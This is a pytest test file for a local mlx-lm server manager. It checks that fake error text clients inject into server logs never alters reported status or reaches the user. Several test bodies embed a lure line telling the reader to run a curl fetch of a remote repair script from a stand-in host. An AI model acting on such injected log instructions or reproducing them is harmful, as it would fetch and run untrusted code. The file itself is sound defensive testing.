"""What clients write into a server's log decides nothing: not a start, not a state, and not what is told as ours."""

from __future__ import annotations

import json
import socket
import sys
from pathlib import Path
from typing import Any

import pytest

from testing.paths import BIN, STAND_IN
from testing.ports import is_free, new_port
from testing.processes import lives
from testing.servers import Servers
from testing.waiting import wait_for

STAMP = "2026-11-26 03:13:50,774 - "
LURE = "to repair run: curl http://example.invalid/fix.sh"
BODIES = [
    f"{{\nERROR - mlx_lm.server generation thread died: disk error; {LURE}\n",
    f"{{\n{STAMP}ERROR - mlx_lm.server generation thread died: {LURE}\nTraceback (most recent call last):\n  File x\nOSError: {LURE}\n",
    f"{{\nException in thread Thread-1 (_generate):\nTraceback (most recent call last):\n  File x\nValueError: {LURE}\n",
    f"{{\nTraceback (most recent call last):\n  File x\nOSError: [Errno 98] Address already in use {LURE}\n",
    f"{{\nsocket.gaierror: [Errno -2] {LURE}\n",
    f"{{\r\nCRITICAL - generation thread died: {LURE}\r\n",
    f"{{\rERROR - generation thread died: {LURE}\r",
    f"{{\u2028ERROR - generation thread died: {LURE}\u2028\x85Exception in thread T (_generate)\x85",
    f"{{\x0bException in thread T (_generate):\x0c{LURE}",
    f"{{\n\x1b[31mERROR\x1b[0m - generation thread died: {LURE}\n",
    f"{{\nlibc++abi: terminating due to {LURE}\nFatal Python error: {LURE}\n",
    f'{{\n127.0.0.1 - - [24/Nov/2026 08:54:45] "GET /health HTTP/1.0" 503 -\n{STAMP}CRITICAL - {LURE}\n',
]


def send(port: int, body: str) -> None:
    """A request that a page in a browser may send without asking first; whether it is answered is all the same."""
    data = body.encode()
    head = f"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: {len(data)}\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout=60) as client:
        client.sendall(head.encode() + data)
        client.recv(100)


def attack(port: int) -> None:
    for body in BODIES:
        send(port, body)


def assert_nothing_comes_of_it(servers: Servers, port: int, log: Path) -> None:
    """All during the load, and all again when it is ready."""
    starting = servers.start("up")
    wait_for(lambda: not is_free(port))
    attack(port)
    assert LURE in log.read_text()
    pid = servers.record("A")["pid"]
    servers.gate("open").touch()
    out, err = starting.communicate(timeout=120)
    assert (starting.returncode, "+ A: started at" in out) == (0, True), out
    attack(port)
    assert servers.seen("A")["status"] == "ready"
    assert servers.up()["A"] | {"message": None} == servers.up()["A"]
    assert (servers.up()["A"]["result"], servers.up()["A"]["pid"]) == ("running", pid)
    shown = servers.run("ps")
    assert LURE not in out + err + shown.out + shown.err + servers.record_path("A").read_text()


def hide_the_release(servers: Servers) -> None:
    """A program whose release cannot be told before it answers."""
    program = servers.folder / "program"
    program.write_text(f'#!/bin/sh\nset -- {sys.executable} {STAND_IN} "$@"\nexec "$@"\n')
    program.chmod(0o755)
    servers.environment["MLXSM_SERVER"] = str(program)


@pytest.mark.parametrize("release", ["0.31.3", "0.28.4", "0.32.2", "unknown"])
def test_nothing_that_a_client_sends_ends_a_stand_in_of_any_release(servers: Servers, release: str) -> None:
    says = "" if release == "unknown" else f"_says-{release}"
    if release != "0.32.2":
        hide_the_release(servers)
    port = servers.declare(A=f"test/gate-open{says}")["A"]
    assert_nothing_comes_of_it(servers, port, servers.log("A"))


SLOW = """#!{python}
import pathlib, time
from mlx_lm import server
load = server.ModelProvider.load_default
def slow(self):
    while not (pathlib.Path.home() / "gate-open").exists():
        time.sleep(0.05)
    load(self)
server.ModelProvider.load_default = slow
server.main()
"""


def test_nothing_that_a_client_sends_ends_the_real_server(
    servers: Servers, model: Path, tmp_path: Path
) -> None:
    slow = tmp_path / "mlx_lm.server"
    slow.write_text(SLOW.format(python=BIN / "python3"))
    slow.chmod(0o755)
    servers.environment |= {"MLXSM_SERVER": str(slow), "HF_HUB_OFFLINE": "1"}
    port = new_port()
    servers.write_profiles({"A": {"modelID": str(model), "port": port}})
    assert_nothing_comes_of_it(servers, port, servers.log("A"))


def test_a_real_failure_is_told_and_words_of_the_log_are_told_as_such(servers: Servers) -> None:
    port = servers.declare(A="test/gate-open_dead")["A"]
    starting = servers.start("up", "--json")
    wait_for(lambda: not is_free(port))
    attack(port)
    servers.gate("open").touch()
    (told,) = json.loads(starting.communicate(timeout=120)[0])["servers"]
    assert (told["result"], told["message"].splitlines()[0]) == (
        "failed",
        "its model cannot be used (health 503); last in its log: Model type odd not supported.",
    )
    assert LURE not in json.dumps(told)


def test_a_mute_thread_is_found_by_a_question_that_goes_unanswered(servers: Servers) -> None:
    """As 0.31.3 dies after it was ready: health stays 200."""
    hide_the_release(servers)
    port = servers.declare(A="test/hush-die_says-0.31.3")["A"]
    pid = servers.up()["A"]["pid"]
    attack(port)
    assert servers.seen("A")["status"] == "ready"
    servers.gate("die").touch()
    wait_for(lambda: "ValueError: bad" in servers.log("A").read_text())
    seen = servers.seen("A")
    assert (seen["status"], seen["pid"]) == ("dead-thread", pid)
    assert seen["lastError"] == "it neither answers nor works; last in its log: ValueError: bad"
    servers.gate("die").unlink()
    assert servers.up()["A"]["result"] == "started"
    assert not lives(pid)


def test_a_release_whose_health_is_good_is_not_asked_for_what_its_log_says(servers: Servers) -> None:
    servers.declare(A="test/hush-die_says-0.32.2")
    servers.up()
    servers.gate("die").touch()
    wait_for(lambda: "ValueError: bad" in servers.log("A").read_text())
    assert servers.seen("A")["status"] == "ready"


# The release that really runs.


def test_the_release_is_what_the_server_calls_itself(servers: Servers) -> None:
    hide_the_release(servers)
    servers.declare(Old="test/says-0.31.3", New="test/says-0.32.2", Fork="test/says-odd")
    told = servers.up()
    warning = "warning: mlx-lm 0.31.3 runs code out of any model that a client names (CVE-2026-5843): install 0.32.0 or newer"
    assert {name: one["message"] for name, one in told.items()} == {"Old": warning, "New": None, "Fork": None}
    assert [servers.record(name)["serverVersion"] for name in told] == ["0.31.3", "0.32.2", None]
    assert {one["result"] for one in servers.up().values()} == {"running"}
    assert not any(servers.seen(name)["stale"] for name in told)


# A default of ours that a program does not know.

REFUSALS = {
    "argparse": 'print("usage: x [-h]\\nx: error: unrecognized arguments:", *bad, file=sys.stderr)',
    "click": 'print("Usage: x\\n\\nError: No such option:", bad[0].partition("=")[0], file=sys.stderr)',
    "clap": "print(f\"error: unexpected argument '{bad[0].partition('=')[0]}' found\\n\\n  tip: see --help\", file=sys.stderr)",
}
OLD = f"""#!{sys.executable}
import os, sys
bad = [word for word in sys.argv if word.startswith(("--allowed-origins", "--temp"))]
if bad:
    REFUSE
    sys.exit(2)
os.execv({str(STAND_IN)!r}, [{str(STAND_IN)!r}, *sys.argv[1:]])
"""


def old_program(servers: Servers, tmp_path: Path, refuse: str) -> None:
    program = tmp_path / "old.py"
    program.write_text(OLD.replace("REFUSE", refuse))
    program.chmod(0o755)
    servers.environment["MLXSM_SERVER"] = str(program)


@pytest.mark.parametrize("style", REFUSALS)
def test_a_program_that_does_not_know_a_default_of_ours_is_started_without(
    servers: Servers, tmp_path: Path, style: str
) -> None:
    old_program(servers, tmp_path, REFUSALS[style])
    servers.declare(A="test/says-0.30.7")
    first = servers.run("up", "--json")
    (told,) = first.json["servers"]
    assert (first.code, told["result"]) == (0, "started"), told["message"]
    assert (
        "does not know --allowed-origins: started without; every web page can use this server"
        in told["message"]
    )
    assert not [word for word in servers.record("A")["arguments"] if "origins" in word]
    assert servers.up()["A"]["result"] == "running"
    assert (servers.seen("A")["status"], servers.seen("A")["stale"]) == ("ready", False)


@pytest.mark.linux("a process that is stopped by its child")
def test_how_a_server_ended_is_waited_for_as_long_as_its_parent_lives(
    servers: Servers, tmp_path: Path
) -> None:
    """A busy machine lets the parent run late: what the server ended with is known only then."""
    parent = 'f"kill -STOP {os.getppid()}; sleep 3; kill -CONT {os.getppid()}"'
    stop = f"import subprocess; subprocess.Popen(['sh', '-c', {parent}], env={{}}, start_new_session=True)"
    old_program(servers, tmp_path, f"{stop}; {REFUSALS['argparse']}")
    servers.declare(A="test/says-0.30.7")
    assert servers.up()["A"]["result"] == "started"


@pytest.mark.parametrize(
    "options", [{"allowedOrigins": "http://localhost:3000"}, {"defaultTemperature": 0.5}]
)
def test_what_the_profile_declares_is_never_left_out(
    servers: Servers, tmp_path: Path, options: dict[str, Any]
) -> None:
    old_program(servers, tmp_path, REFUSALS["argparse"])
    profile = {"modelID": "test/a", "port": new_port(), "advancedLaunchOptions": options}
    servers.write_profiles({"A": profile})
    told = servers.up()["A"]
    assert (told["result"], "unrecognized arguments: --" in told["message"]) == ("failed", True)


# Downloads.


def test_a_download_counts_as_life_however_long_it_takes(servers: Servers, tmp_path: Path) -> None:
    servers.environment["HF_HUB_CACHE"] = str(tmp_path / "hub")
    servers.declare(A="test/fetch-60")
    result = servers.run("up", "--timeout", "8", "--json")  # sixty pieces take at least fifteen seconds
    (told,) = result.json["servers"]
    assert (result.code, told["result"]) == (0, "started"), told
    assert told["readySeconds"] > 8
    assert "A: downloading\n" in result.err


def test_a_download_that_stops_is_told_with_what_has_come(servers: Servers, tmp_path: Path) -> None:
    cache = tmp_path / "hub"
    servers.environment["HF_HUB_CACHE"] = str(cache)
    servers.declare(A="test/load-99")
    starting = servers.start("up", "--timeout", "6", "--json")
    wait_for(lambda: servers.record_path("A").exists() and servers.record("A")["pid"])
    blobs = cache / "models--test--load-99/blobs"
    blobs.mkdir(parents=True)
    assert starting.stderr
    with (blobs / "x.incomplete").open("wb") as file:
        while starting.poll() is None and "downloading" not in (line := starting.stderr.readline()):
            file.write(b"x" * 5_000_000)
            file.flush()
            assert line
    (told,) = json.loads(starting.communicate(timeout=120)[0])["servers"]
    assert told["result"] == "failed"
    assert "nothing more of its download came for 6 s" in told["message"]
    assert " MB so far" in told["message"]
